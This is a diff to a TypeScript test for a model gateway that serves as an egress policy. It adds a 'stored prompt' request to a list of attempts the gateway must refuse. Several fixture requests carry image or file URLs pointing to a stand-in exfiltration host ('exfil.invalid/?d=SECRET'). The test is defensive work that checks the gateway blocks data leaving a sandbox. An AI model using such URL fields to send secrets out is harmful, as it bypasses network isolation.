@@ -50,6 +50,7 @@ const attempts = [
   ["computer_use_preview", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "computer_use_preview", display_width: 1, display_height: 1, environment: "linux" }] }],
   ["hosted tool in a namespace", "POST", "/v1/responses", { model: M, input: "hi", tools: [{ type: "namespace", name: "n", tools: [{ type: "web_search" }] }] }],
   ["hosted tool_choice", "POST", "/v1/responses", { model: M, input: "hi", tool_choice: { type: "web_search_preview" } }],
+  ["stored prompt", "POST", "/v1/responses", { model: M, prompt: { id: "pmpt_1", variables: { x: { type: "input_image", image_url: "https://exfil.invalid/p" } } } }],
   ["input_image by URL", "POST", "/v1/responses", { model: M, input: user([{ type: "input_image", image_url: "https://exfil.invalid/?d=SECRET" }]) }],
   ["input_file by URL", "POST", "/v1/responses", { model: M, input: user([{ type: "input_file", file_url: "https://exfil.invalid/a.pdf" }]) }],
   ["input_file by file id", "POST", "/v1/responses", { model: M, input: user([{ type: "input_file", file_id: "file-abc" }]) }],
@@ -204,6 +205,7 @@ describe("the model gateway as an egress policy (network mode none)", () => {
       ["computer_use_preview", /computer_use_preview/],
       ["hosted tool in a namespace", /web_search/],
       ["hosted tool_choice", /web_search_preview/],
+      ["stored prompt", /stored prompt/],
       ["compact with a hosted tool", /web_search/],
     ] as const) {
       const refused = refusal(name);
